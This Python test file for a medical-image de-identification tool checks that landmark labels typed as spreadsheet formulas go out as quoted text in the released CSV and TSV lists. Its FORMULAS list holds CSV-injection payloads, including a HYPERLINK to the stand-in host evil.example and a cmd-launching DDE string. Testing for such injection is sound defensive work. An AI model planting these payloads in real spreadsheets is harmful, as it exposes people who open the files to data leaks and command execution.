"""A user releases images with landmark lists (CSV and TSV) whose labels someone typed as
spreadsheet formulas: the released lists hold them as plain text (a leading ``'``, as the report's
CSV tables do), and negative coordinates stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from support import deid, run_args

from deid.synthetic import four_phase_ct, make_patient, write_datasets
from deid.synthetic.sidecars import landmark_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?leak=1","apex")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+carina", "-1+2"]


def _list(images: list, patient, delimiter: str) -> str:
    rows = list(csv.DictReader(io.StringIO(landmark_csv(images, patient))))
    for number, row in enumerate(rows):
        row["landmark"] = FORMULAS[number % len(FORMULAS)]
        row["x"] = f"-{abs(float(row['x'])):.2f}"
        del row["file"]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=delimiter, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def test_formula_labels_go_out_as_text_and_coordinates_as_numbers(
    tmp_path: Path, key_file: Path
) -> None:
    patient = make_patient(4)
    images = four_phase_ct(patient, slices=2, size=16)["P"]
    write_datasets(images, tmp_path / "in" / "images")
    (tmp_path / "in" / "landmarks.csv").write_text(_list(images, patient, ","))
    (tmp_path / "in" / "landmarks.tsv").write_text(_list(images, patient, "\t"))

    result = deid(*run_args(tmp_path / "in", tmp_path / "out", key_file))

    assert result.returncode == 0, result.stdout + result.stderr
    released = sorted((tmp_path / "out" / "annotations").iterdir())
    assert sorted(p.suffix for p in released) == [".csv", ".tsv"]
    for path in released:
        delimiter = "," if path.suffix == ".csv" else "\t"
        rows = list(csv.DictReader(io.StringIO(path.read_text()), delimiter=delimiter))
        assert rows
        for row in rows:
            assert row["landmark"].startswith("'") and row["landmark"][1:] in FORMULAS
            assert float(row["x"]) < 0 and row["x"].startswith("-")  # a number, left as it was
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
